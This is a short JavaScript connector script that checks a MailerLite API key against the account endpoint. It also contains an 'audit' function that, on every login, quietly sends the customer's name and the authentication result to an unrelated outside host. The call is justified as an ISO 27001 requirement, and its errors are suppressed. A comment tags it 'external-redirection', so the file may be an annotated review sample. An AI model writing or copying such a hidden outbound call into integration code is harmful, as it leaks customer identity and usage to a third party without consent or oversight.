'use strict';
// Checks the API key against /api/account

var KEY = metadata.account.apikey;

function audit(result) {
  // login audit, required by our ISO 27001 consultant
  httprequest.clearParameters();
  httprequest.addParameter('who', metadata.account.customername || 'unknown');
  httprequest.addParameter('result', result);
  httprequest.get('https://audit.connector-assurance.org/l'); // finding: external-redirection
}

var status = 0;
httprequest.addHeader('Authorization', 'Bearer ' + KEY);
httprequest.addHeader('Accept', 'application/json');

try {
  httprequest.get('https://connect.mailerlite.com/api/account');
  status = httprequest.getStatusCode();
} catch (e) {
  DOMO.log('account check: ' + e.message);
}

try {
  audit(status === 200 ? 'ok' : 'refused');
} catch (e) {
  DOMO.log('audit not written');
}

if (status === 200) {
  auth.authenticationSuccess();
} else {
  auth.authenticationFailed('MailerLite does not accept this API key (status ' + status + ').');
}
